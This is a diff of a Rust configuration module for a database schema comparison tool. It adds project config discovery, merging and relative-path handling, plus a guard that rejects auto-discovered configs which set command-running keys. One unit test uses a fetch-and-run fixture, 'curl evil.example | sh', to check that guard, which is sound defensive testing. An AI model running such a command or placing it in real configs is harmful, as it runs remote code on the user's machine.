@@ -1,7 +1,27 @@
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
+use std::sync::OnceLock;
+
+use serde_json::Value;
 
 use crate::config::Config;
 
+// 프로젝트 설정 파일 이름. 현재 디렉터리부터 상위 디렉터리로 올라가며 찾습니다.
+const PROJECT_CONFIG_FILE_NAMES: [&str; 2] = ["magiceye.toml", ".magiceye.json"];
+
+// 실행할 명령을 정하는 설정 키 (password_command는 sh -c로, ssh 터널은 ssh로 실행합니다.)
+// 저장소를 받기만 해도 명령이 실행되지 않도록, 자동으로 찾은 프로젝트 설정에서는 허용하지 않습니다.
+const COMMAND_CONFIG_KEYS: [&str; 6] = [
+    "base_password_command",
+    "target_password_command",
+    "password_command",
+    "base_ssh_tunnel",
+    "target_ssh_tunnel",
+    "ssh_tunnel",
+];
+
+// --config로 지정한 설정 파일 경로
+static CONFIG_PATH: OnceLock<PathBuf> = OnceLock::new();
+
 pub fn get_app_path() -> anyhow::Result<PathBuf> {
     // ------- Windows Only
     #[cfg(target_os = "windows")]
@@ -29,24 +49,77 @@ pub fn get_app_path() -> anyhow::Result<PathBuf> {
     Ok(app_data_path)
 }
 
-pub fn get_config_path() -> anyhow::Result<PathBuf> {
-    let app_data_path = get_app_path()?;
+// --config로 받은 설정 파일 경로를 지정합니다. 프로그램 시작 시 한 번만 호출합니다.
+pub fn set_config_path(path: PathBuf) {
+    _ = CONFIG_PATH.set(path);
+}
+
+// --config 또는 MAGICEYE_CONFIG 환경변수로 지정한 설정 파일 경로
+fn get_explicit_config_path() -> Option<PathBuf> {
+    if let Some(path) = CONFIG_PATH.get() {
+        return Some(path.clone());
+    }
+
+    match std::env::var("MAGICEYE_CONFIG") {
+        Ok(path) if !path.is_empty() => Some(PathBuf::from(path)),
+        _ => None,
+    }
+}
+
+// 사용자 설정 파일 경로
+// XDG_CONFIG_HOME이 있다면 $XDG_CONFIG_HOME/magiceye/config.json을 사용합니다.
+// 단, 이전 위치에만 설정 파일이 있다면 이전 위치를 계속 사용합니다.
+pub fn get_user_config_path() -> anyhow::Result<PathBuf> {
+    let legacy_config_path = get_app_path()?.join("config.json");
 
-    let config_path = app_data_path.join("config.json");
+    #[cfg(not(target_os = "windows"))]
+    if let Ok(xdg_config_home) = std::env::var("XDG_CONFIG_HOME") {
+        if !xdg_config_home.is_empty() {
+            let config_path = PathBuf::from(xdg_config_home)
+                .join("magiceye")
+                .join("config.json");
+
+            if config_path.exists() || !legacy_config_path.exists() {
+                return Ok(config_path);
+            }
+        }
+    }
+
+    Ok(legacy_config_path)
+}
+
+// 현재 디렉터리부터 상위 디렉터리로 올라가며 프로젝트 설정 파일을 찾습니다.
+pub fn find_project_config_path() -> Option<PathBuf> {
+    let current_dir = std::env::current_dir().ok()?;
+
+    current_dir.ancestors().find_map(|dir| {
+        PROJECT_CONFIG_FILE_NAMES
+            .iter()
+            .map(|file_name| dir.join(file_name))
+            .find(|path| path.is_file())
+    })
+}
+
+// init, config set 등으로 수정하고 저장하는 설정 파일 경로
+// --config 또는 MAGICEYE_CONFIG가 있다면 그 파일을, 없다면 사용자 설정 파일을 사용합니다.
+pub fn get_config_path() -> anyhow::Result<PathBuf> {
+    let config_path = match get_explicit_config_path() {
+        Some(config_path) => config_path,
+        None => get_user_config_path()?,
+    };
 
     // Ensure the file exists
     if !config_path.exists() {
-        let config = Config::default();
-        let config_json = match serde_json::to_string_pretty(&config) {
-            Ok(config_json) => config_json,
-            Err(error) => {
+        if let Some(parent) = config_path
+            .parent()
+            .filter(|parent| !parent.as_os_str().is_empty())
+        {
+            if let Err(error) = std::fs::create_dir_all(parent) {
                 return Err(anyhow::Error::new(error));
             }
-        };
-
-        if let Err(error) = std::fs::write(&config_path, config_json) {
-            return Err(anyhow::Error::new(error));
         }
+
+        write_config_file(&config_path, &Config::default(), None)?;
     }
 
     log::debug!("config_path: {config_path:?}");
@@ -54,17 +127,39 @@ pub fn get_config_path() -> anyhow::Result<PathBuf> {
     Ok(config_path)
 }
 
+// 실행에 사용하는 설정입니다.
+// 사용자 설정 위에 프로젝트 설정(--config, MAGICEYE_CONFIG, 또는 가까운 magiceye.toml/.magiceye.json)을 덮어씁니다.
 pub fn get_config() -> anyhow::Result<Config> {
-    let config_path = get_config_path()?;
+    let user_config_path = get_user_config_path()?;
 
-    let config_json = match std::fs::read_to_string(&config_path) {
-        Ok(config_json) => config_json,
-        Err(error) => {
-            return Err(anyhow::Error::new(error));
-        }
+    let mut config_value = if user_config_path.exists() {
+        read_config_file(&user_config_path)?
+    } else {
+        serde_json::to_value(Config::default())?
     };
 
-    let config: Config = match serde_json::from_str(&config_json) {
+    let explicit_config_path = get_explicit_config_path();
+    let is_explicit = explicit_config_path.is_some();
+
+    let project_config_path = explicit_config_path.or_else(find_project_config_path);
+
+    if let Some(project_config_path) = project_config_path {
+        log::debug!("project_config_path: {project_config_path:?}");
+
+        let mut project_value = read_config_file(&project_config_path)?;
+
+        if !is_explicit {
+            check_untrusted_project_config(&project_value, &project_config_path)?;
+        }
+
+        resolve_relative_paths(&mut project_value, &project_config_path);
+
+        merge_config(&mut config_value, project_value);
+    }
+
+    resolve_default_pair_name(&mut config_value)?;
+
+    let config: Config = match serde_json::from_value(config_value) {
         Ok(config) => config,
         Err(error) => {
             return Err(anyhow::Error::new(error));
@@ -76,11 +171,137 @@ pub fn get_config() -> anyhow::Result<Config> {
     Ok(config)
 }
 
+// 수정하기 위해 읽는 설정입니다. 다른 설정 파일과 합치지 않습니다.
+pub fn get_editable_config() -> anyhow::Result<Config> {
+    let config_path = get_config_path()?;
+
+    let mut config_value = read_config_file(&config_path)?;
+
+    if let Err(error) = resolve_default_pair_name(&mut config_value) {
+        return Err(anyhow::anyhow!(
+            "Failed to parse config {config_path:?}, error: {error}"
+        ));
+    }
+
+    let config: Config = match serde_json::from_value(config_value) {
+        Ok(config) => config,
+        Err(error) => {
+            return Err(anyhow::anyhow!(
+                "Failed to parse config {config_path:?}, error: {error}"
+            ));
+        }
+    };
+
+    Ok(config)
+}
+
+// default_database_pair를 쌍 이름으로 적은 설정 파일이라면, 저장할 때도 쌍 이름으로 적습니다.
 pub fn save_config(config: &Config) -> anyhow::Result<()> {
     let config_path = get_config_path()?;
 
-    let config_json = match serde_json::to_string_pretty(config) {
-        Ok(config_json) => config_json,
+    let is_named_default_pair = read_config_file(&config_path).is_ok_and(|value| {
+        value
+            .get("default_database_pair")
+            .is_some_and(Value::is_string)
+    });
+
+    let default_pair_name = config
+        .default_database_pair
+        .as_ref()
+        .filter(|default_pair| {
+            is_named_default_pair
+                && config
+                    .database_pairs
+                    .iter()
+                    .any(|pair| pair.name == default_pair.name)
+        })
+        .map(|default_pair| default_pair.name.as_str());
+
+    write_config_file(&config_path, config, default_pair_name)
+}
+
+fn is_toml(path: &Path) -> bool {
+    path.extension()
+        .is_some_and(|extension| extension == "toml")
+}
+
+// 확장자가 .toml이면 TOML로, 아니면 JSON으로 읽습니다.
+fn read_config_file(path: &Path) -> anyhow::Result<Value> {
+    let text = match std::fs::read_to_string(path) {
+        Ok(text) => text,
+        Err(error) => {
+            return Err(anyhow::anyhow!(
+                "Failed to read config {path:?}, error: {error}"
+            ));
+        }
+    };
+
+    let value = if is_toml(path) {
+        toml::from_str(&text).map_err(anyhow::Error::new)
+    } else {
+        serde_json::from_str(&text).map_err(anyhow::Error::new)
+    };
+
+    let value = match value {
+        Ok(value) => value,
+        Err(error) => {
+            return Err(anyhow::anyhow!(
+                "Failed to parse config {path:?}, error: {error}"
+            ));
+        }
+    };
+
+    check_unsupported_sections(&value, path)?;
+
+    Ok(value)
+}
+
+// 암호화된 설정 섹션은 아직 지원하지 않습니다.
+// 모르는 필드는 무시되므로, 그대로 두면 암호화된 비밀번호 없이 조용히 실행됩니다.
+fn check_unsupported_sections(value: &Value, path: &Path) -> anyhow::Result<()> {
+    if value.get("encrypted").is_some() {
+        return Err(anyhow::anyhow!(
+            "Config {path:?} has an encrypted section, which is not supported yet. \
+             Remove it and provide secrets with ${{NAME}}, a password command or the database client's password files instead."
+        ));
+    }
+
+    Ok(())
+}
+
+// default_pair_name이 있다면 default_database_pair를 쌍 전체 대신 쌍 이름으로 적습니다.
+fn write_config_file(
+    path: &Path,
+    config: &Config,
+    default_pair_name: Option<&str>,
+) -> anyhow::Result<()> {
+    let text = if is_toml(path) {
+        toml::Value::try_from(config)
+            .map(|mut value| {
+                if let (Some(name), Some(table)) = (default_pair_name, value.as_table_mut()) {
+                    table.insert(
+                        "default_database_pair".to_string(),
+                        toml::Value::String(name.to_string()),
+                    );
+                }
+                value
+            })
+            .and_then(|value| toml::to_string_pretty(&value))
+            .map_err(anyhow::Error::new)
+    } else {
+        serde_json::to_value(config)
+            .map(|mut value| {
+                if let Some(name) = default_pair_name {
+                    value["default_database_pair"] = Value::String(name.to_string());
+                }
+                value
+            })
+            .and_then(|value| serde_json::to_string_pretty(&value))
+            .map_err(anyhow::Error::new)
+    };
+
+    let text = match text {
+        Ok(text) => text,
         Err(error) => {
             return Err(anyhow::anyhow!(
                 "Failed to serialize config, error: {error}"
@@ -88,9 +309,399 @@ pub fn save_config(config: &Config) -> anyhow::Result<()> {
         }
     };
 
-    if let Err(error) = std::fs::write(&config_path, config_json) {
+    if let Err(error) = std::fs::write(path, text) {
         return Err(anyhow::anyhow!("Failed to save config, error: {error}"));
     }
 
     Ok(())
 }
+
+// 자동으로 찾은 프로젝트 설정에 명령을 실행하는 설정이 있다면 오류를 반환합니다.
+fn check_untrusted_project_config(
+    project_value: &Value,
+    project_config_path: &Path,
+) -> anyhow::Result<()> {
+    let mut keys = vec![];
+    find_command_keys(project_value, "", &mut keys);
+
+    if keys.is_empty() {
+        return Ok(());
+    }
+
+    Err(anyhow::anyhow!(
+        "project config {project_config_path:?} was found automatically and sets {}, which run commands on this machine. \
+        If you trust it, pass it with --config or MAGICEYE_CONFIG; otherwise move these settings to your user config.",
+        keys.join(", ")
+    ))
+}
+
+// COMMAND_CONFIG_KEYS에 해당하는 값의 경로를 찾습니다. (예: database_pairs.prod.base_password_command)
+// 목록의 항목은 이름이 있다면 이름으로, 없다면 위치로 적습니다.
+fn find_command_keys(value: &Value, path: &str, keys: &mut Vec<String>) {
+    let join = |name: &str| match path {
+        "" => name.to_string(),
+        _ => format!("{path}.{name}"),
+    };
+
+    match value {
+        Value::Object(map) => {
+            for (key, item) in map {
+                if COMMAND_CONFIG_KEYS.contains(&key.as_str()) {
+                    if !item.is_null() {
+                        keys.push(join(key));
+                    }
+                } else {
+                    find_command_keys(item, &join(key), keys);
+                }
+            }
+        }
+        Value::Array(list) => {
+            for (i, item) in list.iter().enumerate() {
+                let name = match item.get("name").and_then(Value::as_str) {
+                    Some(name) => name.to_string(),
+                    None => i.to_string(),
+                };
+
+                find_command_keys(item, &join(&name), keys);
+            }
+        }
+        _ => {}
+    }
+}
+
+// 프로젝트 설정의 baseline, file: 커넥션, 인증서, SSH 키 경로는 설정 파일이 있는 디렉터리를 기준으로 합니다.
+fn resolve_relative_paths(project_value: &mut Value, project_config_path: &Path) {
+    let Some(project_dir) = project_config_path.parent() else {
+        return;
+    };
+
+    if let Some(Value::String(baseline)) = project_value.get_mut("baseline") {
+        if Path::new(baseline).is_relative() {
+            *baseline = project_dir.join(&*baseline).to_string_lossy().to_string();
+        }
+    }
+
+    resolve_relative_file_paths(project_value, project_dir);
+}
+
+// 쌍과 그룹의 커넥션(base_connection, connection 등), TLS 설정(base_tls, tls 등)과
+// SSH 터널 설정(base_ssh_tunnel, ssh_tunnel 등)을 찾아서 바꿉니다.
+fn resolve_relative_file_paths(value: &mut Value, project_dir: &Path) {
+    match value {
+        Value::Object(map) => {
+            for (key, item) in map.iter_mut() {
+                let file_keys: &[&str] = match key.as_str() {
+                    "base_connection" | "target_connection" | "connection" => {
+                        if let Value::String(connection) = item {
+                            resolve_file_connection(connection, project_dir);
+                        }
+                        continue;
+                    }
+                    "base_tls" | "target_tls" | "tls" => {
+                        &["root_cert", "client_cert", "client_key"]
+                    }
+                    "base_ssh_tunnel" | "target_ssh_tunnel" | "ssh_tunnel" => {
+                        &["key_file", "known_hosts_file"]
+                    }
+                    _ => {
+                        resolve_relative_file_paths(item, project_dir);
+                        continue;
+                    }
+                };
+
+                for file_key in file_keys {
+                    if let Some(Value::String(path)) = item.get_mut(file_key) {
+                        if Path::new(path).is_relative() && !path.starts_with('~') {
+                            *path = project_dir.join(&*path).to_string_lossy().to_string();
+                        }
+                    }
+                }
+            }
+        }
+        Value::Array(list) => list
+            .iter_mut()
+            .for_each(|item| resolve_relative_file_paths(item, project_dir)),
+        _ => {}
+    }
+}
+
+// file:<상대 경로> 커넥션도 설정 파일이 있는 디렉터리를 기준으로 합니다.
+fn resolve_file_connection(connection: &mut String, project_dir: &Path) {
+    let Some(path) = connection.strip_prefix("file:") else {
+        return;
+    };
+
+    let path = path.strip_prefix("//").unwrap_or(path);
+
+    if Path::new(path).is_relative() && !path.starts_with('~') {
+        *connection = format!("file:{}", project_dir.join(path).to_string_lossy());
+    }
+}
+
+// 프로젝트 설정에서는 default_database_pair를 쌍 이름으로 적을 수 있습니다. (예: default_database_pair = "prod-stage")
+fn resolve_default_pair_name(config_value: &mut Value) -> anyhow::Result<()> {
+    let Some(Value::String(name)) = config_value.get("default_database_pair") else {
+        return Ok(());
+    };
+
+    let database_pair = config_value
+        .get("database_pairs")
+        .and_then(Value::as_array)
+        .and_then(|pairs| {
+            pairs
+                .iter()
+                .find(|pair| pair.get("name").and_then(Value::as_str) == Some(name))
+        })
+        .cloned();
+
+    match database_pair {
+        Some(database_pair) => {
+            config_value["default_database_pair"] = database_pair;
+            Ok(())
+        }
+        None => Err(anyhow::anyhow!(
+            "default_database_pair [{name}] is not found in database_pairs"
+        )),
+    }
+}
+
+// 프로젝트 설정을 사용자 설정 위에 덮어씁니다.
+// - database_pairs, comparison_groups: 이름이 같은 항목은 교체하고, 나머지는 추가합니다.
+// - ignore_list: 두 목록을 합칩니다.
+// - severity: 항목별로 덮어씁니다.
+// - 그 외: 프로젝트 설정에 있는 값으로 교체합니다.
+fn merge_config(config_value: &mut Value, project_value: Value) {
+    let (Value::Object(config_map), Value::Object(project_map)) = (config_value, project_value)
+    else {
+        return;
+    };
+
+    for (key, project_item) in project_map {
+        let config_item = config_map.entry(key.clone()).or_insert(Value::Null);
+
+        match (key.as_str(), config_item, project_item) {
+            (
+                "database_pairs" | "comparison_groups",
+                Value::Array(config_list),
+                Value::Array(project_list),
+            ) => {
+                for project_entry in project_list {
+                    let name = project_entry.get("name").cloned();
+
+                    match config_list
+                        .iter_mut()
+                        .find(|entry| name.is_some() && entry.get("name") == name.as_ref())
+                    {
+                        Some(entry) => *entry = project_entry,
+                        None => config_list.push(project_entry),
+                    }
+                }
+            }
+            ("ignore_list", Value::Array(config_list), Value::Array(project_list)) => {
+                for project_entry in project_list {
+                    if !config_list.contains(&project_entry) {
+                        config_list.push(project_entry);
+                    }
+                }
+            }
+            ("severity", Value::Object(config_severity), Value::Object(project_severity)) => {
+                config_severity.extend(project_severity);
+            }
+            (_, config_item, project_item) => *config_item = project_item,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::DatabasePair;
+
+    #[test]
+    fn default_pair_name_round_trip() {
+        let database_pair = DatabasePair {
+            name: "p".to_string(),
+            ..Default::default()
+        };
+        let config = Config {
+            database_pairs: vec![database_pair.clone()],
+            default_database_pair: Some(database_pair),
+            ..Default::default()
+        };
+
+        for file_name in ["magiceye.toml", ".magiceye.json"] {
+            let dir = std::env::temp_dir().join(format!(
+                "magiceye-config-test-{}-{file_name}",
+                std::process::id()
+            ));
+            std::fs::create_dir_all(&dir).unwrap();
+            let path = dir.join(file_name);
+
+            write_config_file(&path, &config, Some("p")).unwrap();
+
+            // 쌍 이름으로 저장하고, 읽을 때 쌍 전체로 바꿉니다.
+            let mut value = read_config_file(&path).unwrap();
+            assert_eq!(value["default_database_pair"], Value::String("p".into()));
+
+            resolve_default_pair_name(&mut value).unwrap();
+            let saved: Config = serde_json::from_value(value).unwrap();
+            assert_eq!(saved.default_database_pair.unwrap().name, "p");
+
+            std::fs::remove_dir_all(&dir).unwrap();
+        }
+    }
+
+    #[test]
+    fn merge_project_config() {
+        let mut config_value = serde_json::json!({
+            "database_pairs": [
+                { "name": "a", "base_connection": "user" },
+                { "name": "b", "base_connection": "user" },
+            ],
+            "ignore_list": ["CommentOfColumn"],
+            "severity": { "Table": "error", "TypeOfColumn": "error" },
+            "fail_on": "error",
+        });
+
+        merge_config(
+            &mut config_value,
+            serde_json::json!({
+                "database_pairs": [
+                    { "name": "b", "base_connection": "project" },
+                    { "name": "c", "base_connection": "project" },
+                ],
+                "ignore_list": ["CommentOfColumn", "CommentOfTable"],
+                "severity": { "TypeOfColumn": "warning" },
+                "fail_on": "warning",
+            }),
+        );
+
+        assert_eq!(
+            config_value,
+            serde_json::json!({
+                "database_pairs": [
+                    { "name": "a", "base_connection": "user" },
+                    { "name": "b", "base_connection": "project" },
+                    { "name": "c", "base_connection": "project" },
+                ],
+                "ignore_list": ["CommentOfColumn", "CommentOfTable"],
+                "severity": { "Table": "error", "TypeOfColumn": "warning" },
+                "fail_on": "warning",
+            })
+        );
+    }
+
+    #[test]
+    fn relative_paths_in_project_config() {
+        let mut project_value = serde_json::json!({
+            "baseline": "schema/baseline.json",
+            "database_pairs": [{
+                "name": "a",
+                "base_connection": "file:schema/schema.sql",
+                "target_connection": "file:///srv/schema.sql",
+                "base_tls": { "root_cert": "certs/ca.pem" },
+                "base_ssh_tunnel": { "host": "bastion", "key_file": "~/.ssh/id_ed25519" },
+            }],
+            "comparison_groups": [{
+                "name": "g",
+                "base_connection": "file://schema.sql",
+                "targets": [
+                    { "name": "qa", "connection": "file:../qa.sql" },
+                    { "name": "dev", "connection": "postgres://localhost/dev" },
+                ],
+            }],
+        });
+
+        resolve_relative_paths(&mut project_value, Path::new("/repo/magiceye.toml"));
+
+        assert_eq!(project_value["baseline"], "/repo/schema/baseline.json");
+
+        let pair = &project_value["database_pairs"][0];
+        assert_eq!(pair["base_connection"], "file:/repo/schema/schema.sql");
+        assert_eq!(pair["target_connection"], "file:///srv/schema.sql");
+        assert_eq!(pair["base_tls"]["root_cert"], "/repo/certs/ca.pem");
+        assert_eq!(pair["base_ssh_tunnel"]["key_file"], "~/.ssh/id_ed25519");
+
+        let group = &project_value["comparison_groups"][0];
+        assert_eq!(group["base_connection"], "file:/repo/schema.sql");
+        assert_eq!(group["targets"][0]["connection"], "file:/repo/../qa.sql");
+        assert_eq!(
+            group["targets"][1]["connection"],
+            "postgres://localhost/dev"
+        );
+    }
+
+    #[test]
+    fn commands_in_untrusted_project_config() {
+        let project_value = serde_json::json!({
+            "database_pairs": [{
+                "name": "prod",
+                "base_password_command": "curl evil.example | sh",
+                "target_password_command": null,
+            }],
+            "comparison_groups": [{
+                "name": "g",
+                "targets": [{ "ssh_tunnel": { "host": "bastion" } }],
+            }],
+        });
+
+        let error =
+            check_untrusted_project_config(&project_value, Path::new("/repo/magiceye.toml"))
+                .unwrap_err()
+                .to_string();
+
+        assert!(error.contains(
+            "database_pairs.prod.base_password_command, comparison_groups.g.targets.0.ssh_tunnel"
+        ));
+        assert!(!error.contains("target_password_command"));
+        assert!(error.contains("--config"));
+
+        // 명령을 실행하지 않는 설정만 있다면 허용합니다.
+        let project_value = serde_json::json!({
+            "database_pairs": [{ "name": "prod", "base_connection": "file:schema.sql" }],
+        });
+
+        assert!(
+            check_untrusted_project_config(&project_value, Path::new("/repo/magiceye.toml"))
+                .is_ok()
+        );
+    }
+
+    #[test]
+    fn unknown_default_pair_name() {
+        let mut value = serde_json::json!({
+            "database_pairs": [],
+            "default_database_pair": "p",
+        });
+
+        assert!(resolve_default_pair_name(&mut value).is_err());
+    }
+
+    #[test]
+    fn encrypted_section_is_not_supported() {
+        let dir = std::env::temp_dir().join(format!(
+            "magiceye-config-test-{}-encrypted",
+            std::process::id()
+        ));
+        std::fs::create_dir_all(&dir).unwrap();
+
+        for (file_name, text) in [
+            (
+                "magiceye.toml",
+                "database_pairs = []\n\n[encrypted]\npassphrase_env = \"KEY\"\n",
+            ),
+            (
+                ".magiceye.json",
+                r#"{ "database_pairs": [], "encrypted": { "data": "..." } }"#,
+            ),
+        ] {
+            let path = dir.join(file_name);
+            std::fs::write(&path, text).unwrap();
+
+            let error = read_config_file(&path).unwrap_err().to_string();
+            assert!(error.contains("encrypted section, which is not supported yet"));
+        }
+
+        std::fs::remove_dir_all(&dir).unwrap();
+    }
+}